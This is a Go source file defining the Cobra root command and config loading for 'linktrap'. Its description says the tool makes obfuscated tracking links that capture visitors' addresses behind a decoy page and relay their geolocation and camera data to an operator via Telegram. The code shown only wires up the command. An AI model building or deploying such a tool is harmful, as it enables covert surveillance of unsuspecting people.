package cmd

import (
	"fmt"
	"log"
	"os"

	"github.com/spf13/cobra"

	"github.com/nwatteau/linktrap/internal/config"
)

// Cfg holds the loaded configuration, accessible to all Cobra commands.
var Cfg *config.Config

// RootCmd is the base command for the CLI application. The subcommands
// (run-server, create, decode) register themselves via their own init()
// functions to avoid import cycles.
var RootCmd = &cobra.Command{
	Use:   "linktrap",
	Short: "A tracking-link service with a Telegram control bot",
	Long: `linktrap mints obfuscated tracking URLs that capture a visitor's address
and render a decoy page, and reports geolocation and camera callbacks from
visited pages to the operator over Telegram.`,
}

// Execute is the main entry point for the Cobra application.
func Execute() {
	if err := RootCmd.Execute(); err != nil {
		fmt.Fprintf(os.Stderr, "Error executing command: %v\n", err)
		os.Exit(1)
	}
}

func init() {
	cobra.OnInitialize(initConfig)
}

// initConfig loads the application configuration before any command runs.
func initConfig() {
	var err error
	Cfg, err = config.LoadConfig()
	if err != nil {
		log.Printf("Warning: Problem loading configuration: %v. Using default values.", err)
	}
}
